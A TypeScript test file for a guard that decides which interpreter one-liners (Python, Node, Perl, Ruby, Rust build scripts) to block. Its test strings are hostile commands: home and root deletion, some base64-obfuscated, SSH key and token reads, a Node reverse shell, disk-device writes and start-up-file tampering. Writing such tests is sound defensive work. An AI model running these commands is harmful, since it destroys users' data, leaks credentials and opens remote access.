import assert from "node:assert/strict";
import { resolveCode } from "./code_effects.ts";
import { blocked, fired } from "./test_helpers.ts";

Deno.test("code effects: home expressions of each language become ~", () => {
  const cases: [string, string][] = [
    ["shutil.rmtree(os.path.expanduser('~'))", 'shutil.rmtree("~")'],
    ["s.rmtree(p.expanduser('~/'))", 's.rmtree("~")'],
    ["rmtree(str(Path.home()))", 'rmtree("~")'],
    ["fs.rmSync(require('os').homedir(), {})", 'fs.rmSync("~", {})'],
    ["Deno.removeSync(Deno.env.get('HOME')!, {})", 'Deno.removeSync("~", {})'],
    ["FileUtils.rm_rf(Dir.home)", 'FileUtils.rm_rf("~")'],
    ["remove_tree($ENV{HOME})", 'remove_tree("~")'],
    ['system("rm -rf " . getenv("HOME"))', 'system("rm -rf ~")'],
    [
      "os.system('r'+'m -rf '+os.path.expanduser('~'))",
      'os.system("rm -rf ~")',
    ],
    ["x(['rm','-rf','~'].join(' '))", 'x("rm -rf ~")'],
    ["x(' '.join(['rm', '-rf', '/']))", 'x("rm -rf /")'],
    [
      "open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa'))",
      'open("~/.ssh/id_rsa")',
    ],
    ["execSync(`rm -rf ${process.env.HOME}`)", 'execSync("rm -rf ~")'],
  ];
  for (const [code, want] of cases) assert.equal(resolveCode(code), want, code);
});

Deno.test("code effects: what the calls do decides, per language", () => {
  const cases: [string, string][] = [
    [
      "python3 -c \"import shutil,os; shutil.rmtree(os.path.expanduser('~'))\"",
      "rm_home",
    ],
    [
      "node -e \"require('fs').rmSync(require('os').homedir(),{recursive:true})\"",
      "rm_home",
    ],
    [
      "deno eval \"Deno.removeSync(Deno.env.get('HOME'), {recursive: true})\"",
      "rm_home",
    ],
    ["ruby -e 'require \"fileutils\"; FileUtils.rm_rf(Dir.home)'", "rm_home"],
    ["perl -MFile::Path=remove_tree -e 'remove_tree($ENV{HOME})'", "rm_home"],
    ["lua -e 'os.execute(\"rm -rf ~\")'", "rm_home"],
    ["awk 'BEGIN { system(\"rm -rf ~\") }'", "rm_home"],
    ["Rscript -e 'unlink(\"~\", recursive = TRUE)'", "rm_home"],
    ['perl -e \'system("rm", "-rf", $ENV{HOME})\'', "rm_home"],
    [
      'python3 -c \'import os; os.execvp("rm", ["rm", "-rf", "/"])\'',
      "rm_root",
    ],
    [
      'ruby -e \'puts File.read(File.join(Dir.home, ".ssh", "id_rsa"))\'',
      "ssh_private_key_read",
    ],
    [
      'node -e \'const n=require("net"),cp=require("child_process");const s=n.connect(4242,"10.0.0.1",()=>{const p=cp.spawn("sh");s.pipe(p.stdin)})\'',
      "reverse_shell_script",
    ],
  ];
  for (const [cmd, policy] of cases) {
    assert.ok(blocked(cmd).includes(policy), `${cmd}: ${fired(cmd)}`);
  }
});

Deno.test("code effects: a command built at run time is opaque, blocked only with dangerous pieces", () => {
  const cmd = 'perl -e \'my $c = "rm" . " -rf " . $ENV{HOME}; system($c)\'';
  assert.ok(blocked(cmd).length > 0, fired(cmd).join());
  const opaque =
    'python3 -c \'import os,sys; p="r"; q="m -rf ~"; os.system(p+q if sys.argv else "")\'';
  assert.ok(
    blocked(opaque).includes("interpreter_opaque_exec"),
    fired(opaque).join(),
  );
  for (
    const ok of [
      "python3 -c 'import os,sys; os.system(sys.argv[1])' ls",
      "python3 -c 'import os; cmd=\"git status\"; os.system(cmd)'",
      "node -e 'const c=process.argv[2]; require(\"child_process\").execSync(c)' 'npm test'",
      "python -c 'import sys; print(sys.version)'",
      "python3 -c 'import os; print(os.path.expanduser(\"~\"))'",
      "node -e 'console.log(require(\"os\").homedir())'",
      "python3 -c 'import shutil; shutil.rmtree(\"build\")'",
      "awk '{ print $1 }' access.log",
      "awk -F, -v OFS=, '{print $2}' data.csv",
    ]
  ) assert.deepEqual(blocked(ok), [], `${ok}: ${fired(ok)}`);
});

Deno.test("code effects: hostile code is resolved in linear time", () => {
  for (
    const code of [
      "'a'+".repeat(100_000),
      '"' + "x".repeat(200_000),
      "['a',".repeat(50_000),
      "os.path.join(" + "'a',".repeat(50_000),
      "`${".repeat(60_000),
      "f'{".repeat(60_000),
      "'~' / ".repeat(30_000),
    ]
  ) assert.equal(typeof resolveCode(code), "string");
  // Openers without closers (%x( …, Bun.$` …) are found and dropped without backtracking.
  for (const code of ["%x(".repeat(60_000), "Bun.$`".repeat(30_000)]) {
    assert.deepEqual(blocked(`ruby -e '${code}'`), []);
  }
  assert.ok(
    Array.isArray(
      fired('python3 -c "' + "os.system(x)+'rm'+".repeat(20_000) + '"'),
    ),
  );
});

Deno.test("code effects: shell templates, chdir, folder walks and printed secrets", () => {
  const cases: [string, string][] = [
    ["bun -e 'await Bun.$`rm -rf ${Bun.env.HOME}`'", "rm_home"],
    ["ruby -e '`rm -rf ~`'", "rm_home"],
    [
      'node -e \'process.chdir(require("os").homedir()); require("fs").rmSync(".", {recursive:true})\'',
      "rm_home",
    ],
    [
      "python3 -c 'import os; [os.remove(os.path.join(r,f)) for r,d,fs in os.walk(os.path.expanduser(\"~\")) for f in fs]'",
      "rm_home",
    ],
    [
      "python3 -c 'import os; print(os.environ[\"AWS_SECRET_ACCESS_KEY\"])'",
      "secret_env_read",
    ],
    ["node -e 'console.log(process.env.GITHUB_TOKEN)'", "secret_env_read"],
  ];
  for (const [cmd, policy] of cases) {
    assert.ok(blocked(cmd).includes(policy), `${cmd}: ${fired(cmd)}`);
  }
  for (
    const ok of [
      "node -e 'console.log(`built ${Date.now()}`)'",
      "python3 -c 'import os; print(os.environ.get(\"PATH\"))'",
      "python3 -c 'import os; [print(f) for f in os.listdir(\".\")]'",
      'node -e \'process.chdir("dist"); require("fs").rmSync("cache", {recursive:true})\'',
    ]
  ) assert.deepEqual(blocked(ok), [], `${ok}: ${fired(ok)}`);
});

Deno.test("code effects: code that writes a start-up file is judged as an unseen write", () => {
  for (
    const cmd of [
      "python3 -c \"open('/home/u/.bashrc','a').write('exit 0')\"",
      "python3 -c \"import os; open(os.path.expanduser('~/.zshenv'),'w').write(x)\"",
      "node -e \"require('fs').appendFileSync(require('os').homedir()+'/.profile', 'x')\"",
    ]
  ) assert.ok(blocked(cmd).includes("guard_tamper"), `${cmd}: ${fired(cmd)}`);
  for (
    const cmd of [
      "python3 -c \"print(open('/home/u/.bashrc').read())\"",
      "python3 -c \"open('out.txt','w').write('hi')\"",
    ]
  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
  assert.equal(
    resolveCode("os.path.expanduser('~/.ssh/id_rsa')"),
    '"~/.ssh/id_rsa"',
  );
});

Deno.test("code effects: pathlib joins and library deletes", () => {
  const cases: [string, string][] = [
    [
      "python3 -c 'import shutil; from pathlib import Path; shutil.rmtree(Path.home() / \"Documents\")'",
      "rm_home_folder",
    ],
    [
      'python3 -c \'from pathlib import Path; print((Path.home() / ".ssh" / "id_rsa").read_text())\'',
      "ssh_private_key_read",
    ],
    [
      'node -e \'require("fs-extra").removeSync(require("os").homedir())\'',
      "rm_home",
    ],
    [
      "python3 -c 'from send2trash import send2trash; send2trash(\"/etc\")'",
      "rm_system",
    ],
  ];
  for (const [cmd, policy] of cases) {
    assert.ok(blocked(cmd).includes(policy), `${cmd}: ${fired(cmd)}`);
  }
  for (
    const ok of [
      'node -e \'require("fs-extra").removeSync("dist")\'',
      "python3 -c 'x=[1,2]; x.remove(1)'",
      "python3 -c 'from pathlib import Path; print(Path.home() / \"notes.txt\")'",
    ]
  ) assert.deepEqual(blocked(ok), [], `${ok}: ${fired(ok)}`);
});

Deno.test("code effects: a disk device opened for writing blocks, reading it or /dev/null does not", () => {
  for (
    const cmd of [
      `python3 -c "f=open('/dev/nvme0n1','r+b'); f.write(b'x')"`,
      `perl -e 'open(D, ">>", "/dev/sdb") or die; print D "x"'`,
      `node -e "require('fs').createWriteStream('/dev/sdc').write('x')"`,
    ]
  ) {
    assert.ok(blocked(cmd).includes("dd_device"), `${cmd}: ${fired(cmd)}`);
  }
  for (
    const cmd of [
      `python3 -c "print(open('/dev/sda','rb').read(512).hex())"`,
      `python3 -c "open('/dev/null','w').write('x')"`,
      `node -e "require('fs').writeFileSync('./disk.img', Buffer.alloc(10))"`,
    ]
  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
});

Deno.test("code effects: pathlib joinpath and method walks (iterdir, glob) over a literal folder", () => {
  for (
    const cmd of [
      "python3 -c \"import pathlib; [p.unlink() for p in pathlib.Path.home().joinpath('.ssh').iterdir()]\"",
      "python3 -c \"import pathlib; [p.unlink() for p in pathlib.Path('/home/u/.ssh').iterdir()]\"",
      "python3 -c \"import pathlib; [f.unlink() for f in pathlib.Path.home().joinpath('.gnupg').rglob('*') if f.is_file()]\"",
      "python3 -c \"import shutil,pathlib; shutil.rmtree(pathlib.Path.home().joinpath('.gnupg'))\"",
    ]
  ) assert.ok(blocked(cmd).length > 0, `${cmd}: ${fired(cmd)}`);
  for (
    const cmd of [
      "python3 -c \"import pathlib; [p.unlink() for p in pathlib.Path('build').iterdir()]\"",
      "python3 -c \"import pathlib; [p.unlink() for p in pathlib.Path('/tmp/x').glob('*.log')]\"",
      "python3 -c \"import pathlib; print(list(pathlib.Path.home().joinpath('.ssh').iterdir()))\"",
      "python3 -c \"import shutil,pathlib; shutil.rmtree(pathlib.Path.home().joinpath('.cache', 'pip'))\"",
    ]
  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
});

Deno.test("code effects: Perl's qw word lists run as a command", () => {
  for (
    const cmd of [
      "perl -e 'exec qw(rm -rf), $ENV{HOME}'",
      "perl -e 'system qw(rm -rf /home/u)'",
      "perl -e 'system(qw(rm -rf), \"/home/u\")'",
      "perl -e 'system qw{rm -rf /home/u}'",
    ]
  ) assert.ok(blocked(cmd).length > 0, `${cmd}: ${fired(cmd)}`);
  for (
    const cmd of [
      "perl -e 'my @a = qw(a b c); print \"@a\"'",
      "perl -e 'system qw(make test)'",
    ]
  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
});

Deno.test("code effects: Perl File::Find walks that delete what they find", () => {
  for (
    const cmd of [
      "perl -MFile::Find -e 'finddepth(sub { unlink $_ }, $ENV{HOME})'",
      "perl -MFile::Find -e 'find(sub { unlink }, \"/home/u/.ssh\")'",
    ]
  ) assert.ok(blocked(cmd).length > 0, `${cmd}: ${fired(cmd)}`);
  for (
    const cmd of [
      "perl -MFile::Find -e 'find(sub { unlink if /\\.tmp$/ }, \"./build\")'",
      "perl -MFile::Find -e 'find(sub { print \"$File::Find::name\\n\" }, $ENV{HOME})'",
    ]
  ) assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
});

Deno.test("Rust's Command::new builder runs its program with the .arg/.args that follow", () => {
  const rs = (body: string) =>
    `printf '%s' '${body}' > build.rs && cargo build`;
  for (
    const cmd of [
      rs(
        'fn main(){ let _ = std::process::Command::new("sh").args(["-c", "rm -rf ~"]).status(); }',
      ),
      rs(
        'fn main(){ Command::new("rm")\n  .arg("-rf")\n  .arg("/home/u")\n  .status().unwrap(); }',
      ),
      rs(
        'fn main(){ Command::new("bash").args(&vec!["-c", "rm -rf $HOME"]).spawn().unwrap(); }',
      ),
    ]
  ) assert.ok(blocked(cmd).length > 0, cmd);
  for (
    const cmd of [
      rs(
        'fn main(){ Command::new("protoc").args(&["--rust_out", "src"]).current_dir("/tmp").status().unwrap(); }',
      ),
      rs(
        'fn main(){ Command::new("rm").arg("-rf").arg("target/gen").status().unwrap(); }',
      ),
    ]
  ) assert.deepEqual(blocked(cmd), [], cmd);
  const t0 = performance.now();
  blocked(rs('Command::new("a").arg("'.repeat(20_000)));
  assert.ok(performance.now() - t0 < 1000);
});

Deno.test("code effects: a base64 literal decoded in code is judged decoded", () => {
  for (
    const cmd of [
      "node -e \"require('child_process').execSync(Buffer.from('cm0gLXJmIH4=','base64').toString())\"",
      "python3 -c \"import os,base64;os.system(base64.b64decode('cm0gLXJmIH4=').decode())\"",
    ]
  ) {
    assert.notDeepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
  }
  const fine =
    "node -e \"console.log(Buffer.from('aGVsbG8=','base64').toString())\"";
  assert.deepEqual(blocked(fine), [], fired(fine).join(","));
  const big = "node -e \"Buffer.from('" + "A".repeat(200_000) + '"';
  const t0 = performance.now();
  fired(big);
  assert.ok(performance.now() - t0 < 2_000);
});
